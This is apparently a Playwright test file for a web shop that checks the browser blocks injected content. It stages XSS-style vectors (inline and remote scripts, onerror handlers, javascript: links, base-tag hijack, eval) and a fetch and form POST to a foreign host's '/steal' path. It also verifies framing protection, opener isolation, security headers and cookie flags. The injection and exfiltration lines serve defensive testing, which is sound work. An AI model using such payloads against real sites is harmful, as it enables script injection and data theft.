import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { test as base, type Page } from '@playwright/test';
import { placeOrder } from '../harness/shop/place-order.ts';
import { expect, shopAddress } from './shop-test.ts';

/** Attacks cause console errors on purpose, so these tests do not use the fixture that forbids them. */
const test = base.extend({
  baseURL: async ({ baseURL: _unused }, use) => use(shopAddress('WEB')),
});
/** A foreign server. */
const foreign = () => new URL(shopAddress('LLM')).origin;

const stopped = [
  'base-uri',
  'connect-src',
  'form-action',
  'frame-src',
  'img-src',
  'object-src',
  'script-src',
  'script-src-attr',
  'script-src-elem',
  'style-src-elem',
];
type Blocked = { directive: string; address: string };
type Attacked = { blocked: Blocked[]; ran: string[] };

/** Does what an injected script could do; returns what the browser blocked. */
async function attack(page: Page): Promise<Attacked> {
  return page.evaluate(
    async ([otherSite, kinds]) => {
      const blocked: Blocked[] = [];
      const ran: string[] = [];
      Object.assign(window, { ran });
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
        blocked.push({ directive: effectiveDirective, address: blockedURI }),
      );
      const add = (tag: string, attributes: Record<string, string>, text = '') => {
        const element = document.createElement(tag);
        for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
        element.textContent = text;
        document.body.append(element);
        return element;
      };
      add('script', {}, 'ran.push("inline script")');
      add('script', { src: `${otherSite}/a.js` });
      add('img', { src: '/no-such-picture', onerror: 'ran.push("handler")' });
      add('style', {}, 'body { display: none }');
      add('iframe', { src: otherSite });
      add('iframe', { srcdoc: '<script>parent.ran.push("srcdoc")</script>' });
      add('object', { data: `${otherSite}/a.swf` });
      add('img', { src: `${otherSite}/a.png` });
      add('a', { href: 'javascript:ran.push("javascript address")' }).click();
      document.head.append(Object.assign(document.createElement('base'), { href: otherSite }));
      fetch(`${otherSite}/steal`).then(
        () => ran.push('fetch'),
        () => undefined,
      );
      setTimeout(() => {
        try {
          new Function('ran.push("eval")')();
        } catch {
          // blocked, as it should be
        }
      });
      (add('form', { action: `${otherSite}/steal`, method: 'post' }) as HTMLFormElement).submit();
      const isOver = () => new Set(blocked.map(({ directive }) => directive)).size >= kinds;
      for (let n = 0; n < 60 && !isOver(); n += 1) await new Promise((resolve) => setTimeout(resolve, 50));
      if (getComputedStyle(document.body).display === 'none') ran.push('style');
      if (document.baseURI.startsWith(otherSite)) ran.push('base');
      return { blocked, ran };
    },
    [foreign(), stopped.length] as const,
  );
}

test('what is smuggled into a page is stopped by the browser', async ({ page }) => {
  for (const path of ['/', '/sample', '/home', '/admin-login', '/no-such-page'])
    await test.step(path, async () => {
      await page.goto(path);
      const { blocked, ran } = await attack(page);
      expect(ran).toEqual([]);
      const directives = new Set(blocked.map(({ directive }) => directive));
      expect([...directives].sort()).toEqual(stopped);
    });
});

test('another site can neither frame our pages and answers nor keep a hand on our window', async ({
  page,
}) => {
  const web = shopAddress('WEB');
  const framed = ['/', '/home', '/admin', '/api/shop-settings', '/no-such-page'].map((path) => web + path);
  const other = createServer((asked, answer) => {
    const frames = [...framed, '/frameable'].map((address) => `<iframe src="${address}"></iframe>`);
    answer.setHeader('content-type', 'text/html').end(asked.url === '/' ? frames.join('') : 'mine');
  }).listen(0, '127.0.0.1');
  await once(other, 'listening');
  const elsewhere = `http://127.0.0.1:${(other.address() as AddressInfo).port}`;
  await page.goto(elsewhere);
  const shown = () =>
    page
      .frames()
      .slice(1)
      .map((frame) => frame.url());
  await expect
    .poll(shown)
    .toEqual([...framed.map(() => 'chrome-error://chromewebdata/'), `${elsewhere}/frameable`]);
  const popup = page.waitForEvent('popup');
  await page.evaluate((address) => {
    Object.assign(window, { ours: window.open(address) });
  }, `${web}/home`);
  const ours = await popup;
  await ours.waitForLoadState();
  expect(await ours.evaluate(() => window.opener)).toBeNull();
  expect(await page.evaluate(() => (window as unknown as { ours: Window }).ours.closed)).toBe(true);
  other.close();
  other.closeAllConnections();
});

test('every kind of answer carries its headers, and what is private is not kept', async ({
  page,
  request,
}) => {
  const order = await placeOrder(shopAddress('WEB'));
  const kinds = {
    '/': 'no-cache',
    '/home': 'no-cache',
    '/no-such-page': 'no-cache',
    '/robots.txt': 'public',
    '/third-party-licences.txt': 'public',
    '/sample-report.pdf': 'public',
    '/api/shop-settings': 'private, no-store',
    [`/api/analysis/${order.id}`]: 'private, no-',
    '/api/user/analyses': 'private, no-store',
  };
  for (const [path, cache] of Object.entries(kinds)) {
    const answer = await request.get(path, { headers: { cookie: order.cookie } });
    const headers = answer.headers();
    expect([path, headers['cache-control']]).toEqual([path, expect.stringContaining(cache)]);
    expect([path, headers]).toEqual([
      path,
      expect.objectContaining({
        'x-content-type-options': 'nosniff',
        'referrer-policy': 'no-referrer',
        'cross-origin-opener-policy': 'same-origin-allow-popups',
        'cross-origin-resource-policy': 'same-origin',
        'content-security-policy': expect.stringMatching(/default-src 'none'.*frame-ancestors 'none'/),
      }),
    ]);
    expect(headers).not.toHaveProperty('x-powered-by');
    expect(headers).not.toHaveProperty('server');
    // Browsers ignore it over plain http; app.test.ts checks it under https.
    expect(headers).not.toHaveProperty('strict-transport-security');
  }
  expect((await request.get(`/api/analysis/${order.id}`)).status()).toBe(404);

  await page.goto('/home');
  await page.evaluate(async (market) => {
    const body = {
      email: 'a@example.com',
      targetMarket: market,
      productService: market,
      promoCode: 'FREE100',
    };
    const headers = { 'content-type': 'application/json' };
    await fetch('/api/analysis', {
      method: 'POST',
      headers,
      body: JSON.stringify({ ...body, reportType: 'atm', tier: 'elite', selectedModules: [] }),
    });
  }, 'Owners of small bakeries who open before dawn');
  const cookies = await page.context().cookies();
  expect(cookies.map(({ name }) => name)).toContain('ib_visitor');
  for (const cookie of cookies) expect(cookie).toMatchObject({ httpOnly: true, sameSite: 'Lax', path: '/' });
  expect(await page.evaluate(() => document.cookie)).toBe('');
});
